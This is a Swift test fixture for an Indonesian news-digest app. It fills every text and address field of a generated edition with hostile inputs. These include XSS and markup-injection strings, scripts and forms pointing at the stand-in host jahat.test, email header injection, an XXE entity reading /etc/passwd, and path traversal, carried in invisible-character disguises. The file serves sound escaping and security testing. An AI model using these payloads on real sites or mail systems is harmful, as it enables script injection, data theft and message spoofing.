import Model
import Text

/// What a hostile page may put into any text or address: markup of every view, handlers, other schemes, control and
/// direction characters, line ends that would begin a header.
public enum HostilePayload {
  private static let cores: [String] = [
    "<script>alert(1)</script>", "<ScRiPt src=//jahat.test/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert&#40;1)</script>", "<iframe srcdoc='<b onclick=x>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onpageshow=alert(1)>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<base href=//jahat.test/>", "<meta http-equiv=refresh content=0;url=//jahat.test>",
    "<link rel=stylesheet href=//jahat.test>",
    "<form action=//jahat.test><input name=x>", "<style>*{background:url(//jahat.test)}</style>",
    "<object data=//jahat.test>",
    "<template><b onfocus=x autofocus>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\u{1}javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "data:text/html,<script>x</script>", "//jahat.test/x", "\\\\jahat.test\\x",
    "https://bank.test@jahat.test/", "https://jahat.test/\"onmouseover=\"alert(1)",
    "https://jahat.test/'onmouseover='x",
    "https://jahat.test/x) [y](javascript:z", "file:///etc/passwd", "mailto:a@b.test?bcc=c@d.test",
    "[x](javascript:alert(1))", "![x](https://jahat.test/p.gif)", "[x]: javascript:alert(1)", "<https://jahat.test>",
    "<javascript:alert(1)>", "[x](<javascript:alert(1)>)", "`</code><script>`", "```\n<script>\n```", "- [ ] a\n- b",
    "# Judul\n\n<div onclick=x>", "| a | b |\n|---|---|", "\n\n---\n\n", "1. a\n2. b", "> kutip\n> lagi",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;", "&#x3c;img src=x onerror=y&#x3e;", "www.jahat.test", "nama@jahat.test",
    "\r\nBcc: semua@jahat.test", "\r\n\r\n<html><script>x</script>", "\nContent-Type: text/html\n\n<b>",
    "\r\n.\r\nMAIL FROM:<a@b.test>",
    "=?utf-8?B?PHNjcmlwdD4=?=", "=?utf-8?Q?=0D=0ABcc:_a=40b.test?=", "--=_digest_2024-05-14_r1",
    "\u{2028}Bcc: a@b.test",
    "From jahat@jahat.test Sat", "\"\r\n <a@b.test>", "a@b.test>, <c@d.test", "{{7*7}}", "${x}", "{lead}{title}{date}",
    "%0d%0aBcc:a", "../../etc/passwd",
    "]]><script>x</script>", "<!--><script>x</script>-->", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?php x ?>",
    "\\u003cscript\\u003e", "\",\"url\":\"javascript:x", "</title><script>x</script>", "</style><script>x</script>",
    "</textarea><script>x</script>",
  ]

  /// Ways to hide or carry one.
  private static let carriers: [@Sendable (String) -> String] = [
    { $0 }, { "Berita " + $0 + " hari ini" }, { "\u{202E}" + $0 + "\u{2066}x" },
    { $0.map { String($0) }.joined(separator: "\u{200B}") }, { "\"'>" + $0 }, { "\u{0}" + $0 + "\u{7F}" },
    { $0 + "\u{FEFF}\u{E0041}" },
  ]

  /// More than five hundred.
  public static let all: [String] = carriers.flatMap { carrier in cores.map(carrier) }

  /// Each of them in one way: for what is run often.
  public static let some: [String] = cores.enumerated().map { carriers[$0.offset % carriers.count]($0.element) }

  /// A day on which every text and every address is this one.
  public static func edition(_ payload: String, day: CalendarDay) -> Edition {
    let end = Moment(Instant(day, .midnight, offset: 25_200), offset: 25_200, zone: "WIB")
    var edition = Edition(
      title: payload, language: "id", day: day, number: 1,
      windowStart: Moment(end.instant - 86_400, offset: 25_200, zone: "WIB"),
      windowEnd: end, madeAt: end)
    let date = PublicationDate(moment: end, precision: .minute, origin: .meta)
    for (number, url) in [payload, "https://media.test/" + payload, "https://media.test/baik?a=1&b=2"].enumerated() {
      let facts: [KeyFact] = [
        .when(day, until: nil), .place(payload), .participants(.init(1_250, payload)), .organiser(payload),
        .speaker(payload, of: payload), .partner(payload),
        .regulation(.init(payload, number: payload, year: payload)), .form(.online), .genre(.opinion),
      ]
      let outlet = Edition.Outlet(
        source: payload, host: payload, url: url, title: payload, published: date, relation: .shorter, onlyFacts: facts,
        onlyFigures: [payload])
      let item = Edition.Item(
        number: number + 1, url: url, title: payload, titleIsMade: number == 0, source: payload, host: payload,
        byline: [payload, payload], published: date, region: payload, minutes: 2, isArchive: number == 1,
        summary: payload + ". " + payload,
        facts: facts, terms: [.init(phrase: payload, zone: .title, count: 2, points: 3)], rules: [payload],
        language: payload,
        alsoReported: [outlet, outlet], related: [1, 2, 3])
      edition.sections.append(.init(topic: payload, items: [item]))
      edition.more.append(.init(url: url, title: payload, host: payload, region: payload))
      edition.maybe.append(.init(url: url, title: payload, host: payload, region: payload))
      for change: Edition.Correction.Change in [
        .title(from: payload, to: payload), .figure(from: payload, to: payload), .name(from: payload, to: payload),
        .date(from: payload, to: payload), .withdrawn(status: 410),
      ] {
        edition.corrections.append(.init(day: day, number: 1, url: url, change: change, noticed: end))
      }
      edition.sources.append(
        .init(
          name: payload + "\(number)", host: payload, isWell: number > 0, articles: 1,
          fault: .failing(Trouble(.status, payload), since: end, tries: 2, next: end)))
    }
    edition.agenda = agenda(payload, day: day, at: end.instant)
    edition.counts.shown = 3
    edition.counts.more = 3
    edition.counts.maybe = 3
    edition.counts.read = 9
    (edition.mailFrom, edition.mailTo, edition.mailSubject) = (
      "Kabar Peksos <kabar@lembaga.test>", ["redaksi@lembaga.test"], payload + " {lead}"
    )
    return edition
  }

  /// Days ahead of each kind, one of them moved and one called off.
  private static func agenda(_ payload: String, day: CalendarDay, at stamp: Instant) -> Agenda {
    let changes: [ComingDay.Change?] = [.moved(from: day), nil, .calledOff, nil]
    let entries = zip(ComingDay.Kind.allCases, changes).enumerated().map { number, made in
      let coming = ComingDay(
        made.0, day.adding(days: number + 1), until: made.0 == .span ? day.adding(days: 9) : nil,
        clock: Moment(stamp, offset: 25_200, zone: payload), sentence: payload, change: made.1)
      var entry = Agenda.Entry(
        uid: payload + "\(number)", coming: coming, title: payload, source: payload, url: payload, fragment: payload,
        language: payload, region: payload, tellings: [.init(day: day, number: number)], stamp: stamp)
      (entry.sequence, entry.changed) = (1, day)
      return entry
    }
    return Agenda(entries: entries)
  }
}
